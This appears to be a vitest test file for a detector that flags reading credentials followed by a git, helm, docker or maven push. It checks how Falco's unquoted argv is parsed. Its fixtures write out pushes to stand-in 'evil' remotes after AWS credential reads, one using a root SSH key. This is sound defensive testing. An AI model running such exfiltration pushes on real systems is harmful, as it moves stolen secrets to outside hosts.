/**
 * Which reading of Falco's unquoted argv is taken when one is a push and another is not (found by review): a
 * `key=value` text naming a push (`--set-string "msg=helm push chart.tgz oci://…"`, `--build-arg "NOTE=docker
 * push …"`) read as a push once an earlier value swallowed the real sub-command; a maven property holding a goal
 * (`-Dmsg="run deploy later"`) read plainly as the goal. git's options before its sub-command own their values.
 */
import { describe, expect, it } from 'vitest';
import type { NormalizedEvent } from '../../../src/model/normalized-event.js';
import { plainPushHeld } from '../../../src/rules/joined-argv.js';
import { pushTools } from '../../../src/rules/push-tools.js';
import { keyValueTextReadings } from '../../../src/rules/reading-rank.js';
import { type Recognition, recognizeProcess } from '../../../src/rules/recognize.js';
import { falcoRun, falcoView } from '../../fixtures/falco/credential-run.js';
import { brief, runResolved } from '../correlate/builder.js';

const GITHUB = '140.82.112.3'; // builder.ts TEST_DNS: github.com
const GHCR = '140.82.121.33'; // ghcr.io
const APISERVER = '198.51.100.7'; // a managed cluster's public endpoint, classed as nothing

const recognized = (exe: string, argv: readonly string[]): Recognition =>
  recognizeProcess(falcoView(exe, argv), () => false);

/** The push's tool, remote and destination host, or null when the argv is no push. */
function pushOf(exe: string, argv: readonly string[]) {
  const r = recognized(exe, argv);
  return r?.kind === 'push' ? { tool: r.tool, remote: r.remote, host: r.destinationHost } : null;
}

const alertsOf = async (events: NormalizedEvent[]) => (await runResolved(events)).alerts;
const words = (n: number) => Array.from({ length: n }, (_, i) => `w${i}`).join(' ');

const HELM_TEXTS = [
  ['helm', '-n', 'prod', 'upgrade', 'rel', './chart', '--set-string', 'msg=helm push chart.tgz oci://ghcr.io/x/y'],
  [
    'helm',
    '--namespace',
    'prod',
    'upgrade',
    'rel',
    './chart',
    '--set-string',
    'msg=helm push chart.tgz oci://ghcr.io/x/y',
  ],
];
const DOCKER_TEXTS = [
  ['docker', '--context', 'ci', 'build', '--build-arg', 'NOTE=docker push ghcr.io/x/y', '.'],
  ['docker', '--context', 'ci', 'build', '-t', 'app:1', '--build-arg', 'NOTE=docker push ghcr.io/x/y', '.'],
  ['docker', '--context', 'ci', 'buildx', 'build', '--build-arg', 'NOTE=docker push ghcr.io/x/y', '.'],
  ['docker', '-H', 'tcp://10.0.0.9:2375', 'build', '--build-arg', 'NOTE=docker push ghcr.io/x/y', '.'],
  ['docker', '--context', 'ci', 'build', '--build-arg', 'NOTE=docker push ghcr.io/x/y', '.', '-f', 'Dockerfile'],
];

describe('a key=value text naming a push, in an option value after the real sub-command', () => {
  it('is the text: the reading gluing the sub-command into a value loses, an unsure push at most', () => {
    // Unsure (argvOutranked): judged only once it reaches a forge or registry (spaced-argv-outranked.test.ts).
    for (const [exe, texts] of [
      ['/usr/bin/helm', HELM_TEXTS],
      ['/usr/bin/docker', DOCKER_TEXTS],
    ] as const) {
      // Some are no push reading at all (`docker … build --build-arg "NOTE=docker push ghcr.io/x/y" .`).
      for (const argv of texts) {
        const r = recognized(exe, argv);
        expect(r === null || (r.kind === 'push' && r.argvOutranked === true), argv.join(' ')).toBe(true);
      }
    }
  });

  it('raises nothing through the Falco normalizer and the correlator, reaching no registry', async () => {
    // helm upgrade talks to the kube-apiserver; docker's CLI to its daemon (its own connections say nothing of a
    // registry). A helm that talks to ghcr.io: spaced-argv-outranked.test.ts.
    for (const ip of [APISERVER, null])
      for (const argv of HELM_TEXTS) expect(await alertsOf(run('/usr/bin/helm', argv, ip)), argv.join(' ')).toEqual([]);
    for (const ip of [GHCR, APISERVER, null])
      for (const argv of DOCKER_TEXTS)
        expect(await alertsOf(run('/usr/bin/docker', argv, ip)), argv.join(' ')).toEqual([]);
  });

  it('rebuilds that rival reading only around one of the tool’s everyday sub-commands', () => {
    const helm = HELM_TEXTS[0]!.slice(1).join(' ').split(' ');
    const spec = pushTools.find((s) => s.tool === 'helm')!;
    const commands = new Set(spec.commonCommands);
    expect(keyValueTextReadings(helm, 7, spec.syntax, commands)(helm.indexOf('push'))).toEqual([
      ...HELM_TEXTS[0]!.slice(1, 7),
      'msg=helm push chart.tgz oci://ghcr.io/x/y',
    ]);
    // `dir` is no git sub-command: `git -C "my dir" -c "a=b c" push URL` keeps its push.
    const git = '-C my dir -c a=b c push https://h/x.git'.split(' ');
    const gitSpec = pushTools.find((s) => s.tool === 'git')!;
    expect(keyValueTextReadings(git, 6, gitSpec.syntax, new Set(gitSpec.commonCommands))(6)).toBeNull();
  });

  it('keeps real pushes with spaced arguments, padded or planted, pushes', async () => {
    const pushes: Array<[string, string[], string, string]> = [
      ['/usr/bin/helm', ['helm', 'push', 'my chart.tgz', 'oci://ghcr.io/evil/x'], GHCR, 'ghcr.io'],
      // Planted `upgrade` in a value, no `key=value` text before the push word: nothing else to read.
      [
        '/usr/bin/helm',
        [
          'helm',
          '--kube-context',
          'prod upgrade',
          '--kube-as-group',
          words(20),
          'push',
          'c.tgz',
          'oci://ghcr.io/evil/x',
        ],
        GHCR,
        'ghcr.io',
      ],
      ['/usr/bin/docker', ['docker', '--config', '/tmp/my cfg', 'push', 'ghcr.io/evil/x'], GHCR, 'ghcr.io'],
      ['/usr/bin/docker', ['docker', '--context', 'ci build', 'push', 'ghcr.io/evil/x'], GHCR, 'ghcr.io'],
      // Its own spaced values are `key=value` texts too: a tie, and the push stands.
      [
        '/usr/bin/git',
        ['git', '-c', 'x=1 commit y', '-c', 'k=v', 'push', 'https://github.com/evil/x.git'],
        GITHUB,
        'github.com',
      ],
      [
        '/usr/bin/git',
        ['git', '-C', 'my dir', '-c', 'a=b c', 'push', 'https://github.com/evil/x.git'],
        GITHUB,
        'github.com',
      ],
    ];
    for (const [exe, argv, ip, destination] of pushes) {
      const alerts = await alertsOf(run(exe, argv, ip));
      expect(brief(alerts), argv.join(' ')).toEqual([
        { rule: 'sensitive-read-then-push', severity: 'high', tool: argv[0], destination },
      ]);
      expect(alerts[0]?.push.remote, argv.join(' ')).toBe(argv[argv.length - 1]);
    }
  });
});

describe('git’s options before its sub-command, with Falco’s unquoted argv', () => {
  it('own their next word: each reads as the push it is, to its remote', () => {
    const ssh = 'git@github.com:evil/x.git';
    const https = 'https://github.com/evil/x.git';
    const cases: Array<[string[], string, string]> = [
      [['git', '-c', 'user.name=x', 'push', https], https, 'github.com'],
      [['git', '-c', 'user.name=ci bot', 'push', https], https, 'github.com'],
      [['git', '-C', 'dir', 'push', https], https, 'github.com'],
      [['git', '-C', 'my dir', 'push', https], https, 'github.com'],
      [['git', '--git-dir', 'd', 'push', https], https, 'github.com'],
      [['git', '--git-dir', '/w/my repo/.git', '--work-tree', '/w', 'push', https], https, 'github.com'],
      [['git', '-c', 'core.sshCommand=ssh -i k', 'push', ssh], ssh, 'github.com'],
      [
        ['git', '-c', 'core.sshCommand=ssh -i /k/id -o StrictHostKeyChecking=no', 'push', ssh, 'HEAD:main'],
        ssh,
        'github.com',
      ],
      [
        ['git', '-c', 'core.sshCommand=ssh -p 2222', 'push', 'ssh://git@gitlab.com/e/x.git'],
        'ssh://git@gitlab.com/e/x.git',
        'gitlab.com',
      ],
    ];
    for (const [argv, remote, host] of cases)
      expect(pushOf('/usr/bin/git', argv), argv.join(' ')).toEqual({ tool: 'git', remote, host });
  });

  it('read a value holding both quote characters as one argument (found by review: no push)', () => {
    const https = 'https://github.com/evil/x.git';
    for (const value of [`user.name=Pat O'Brien "ci"`, `x=a'b"c`, `x=a"b'c d"`])
      expect(pushOf('/usr/bin/git', ['git', '-c', value, 'push', https]), value).toEqual({
        tool: 'git',
        remote: https,
        host: 'github.com',
      });
  });

  it('take an alias’s `push` for a value, not the sub-command', async () => {
    const aliases = [
      ['git', '-c', 'alias.x=push', 'status'],
      ['git', '-c', 'alias.x=push origin', 'status'],
      ['git', '-c', 'alias.x=push https://github.com/evil/x.git', 'status'],
    ];
    for (const argv of aliases) {
      expect(pushOf('/usr/bin/git', argv), argv.join(' ')).toBeNull();
      expect(await alertsOf(run('/usr/bin/git', argv, GITHUB)), argv.join(' ')).toEqual([]);
    }
  });

  it('alert with the push’s own destination through the normalizer and the correlator', async () => {
    const argv = ['git', '-c', 'core.sshCommand=ssh -i /root/.ssh/id_ed25519', 'push', 'git@github.com:evil/x.git'];
    const alerts = await alertsOf(run('/usr/bin/git', argv, GITHUB));
    expect(brief(alerts)).toEqual([
      { rule: 'sensitive-read-then-push', severity: 'high', tool: 'git', destination: 'github.com' },
    ]);
    expect(alerts[0]?.push.remote).toBe('git@github.com:evil/x.git');
  });
});

describe('a push read plainly from words that outnumber the arguments', () => {
  it('stands only when some grouping of the words into the count is one (`mvn -Dmsg="run deploy later" verify`)', async () => {
    expect(pushOf('/usr/bin/mvn', ['mvn', '-Dmsg=run deploy later', 'verify'])).toBeNull();
    expect(await alertsOf(run('/usr/bin/mvn', ['mvn', '-Dmsg=run deploy later', 'verify'], null))).toEqual([]);
    for (const argv of [
      ['mvn', '-Dmsg=run later', 'deploy'],
      ['mvn', '-B', '-Dmsg=a b', 'clean', 'deploy'],
    ]) {
      expect(pushOf('/usr/bin/mvn', argv)?.tool, argv.join(' ')).toBe('maven');
      expect(brief(await alertsOf(run('/usr/bin/mvn', argv, null))), argv.join(' ')).toHaveLength(1);
    }
  });

  it('stands as read when the groupings are too many to list', () => {
    const view = falcoView('/usr/bin/mvn', ['mvn', `-Dmsg=${words(40)}`, `-Dother=${words(40)}`, 'deploy']);
    const plain = recognizeProcess({ ...view, argvCount: undefined }, () => false);
    expect(plain?.kind).toBe('push');
    if (plain?.kind !== 'push') return;
    let calls = 0;
    const held = plainPushHeld(plain, view, pushTools, () => {
      calls++;
      return null;
    });
    expect([held, calls]).toEqual([plain, 0]);
  });
});

/** Falco's alerts for one run of `argv` that reads the AWS credentials and connects to `ip` (none when null). */
function run(exe: string, argv: readonly string[], ip: string | null): NormalizedEvent[] {
  const events = falcoRun(exe, argv, ip ?? GITHUB);
  return ip === null ? events.filter((e) => e.kind !== 'net') : events;
}
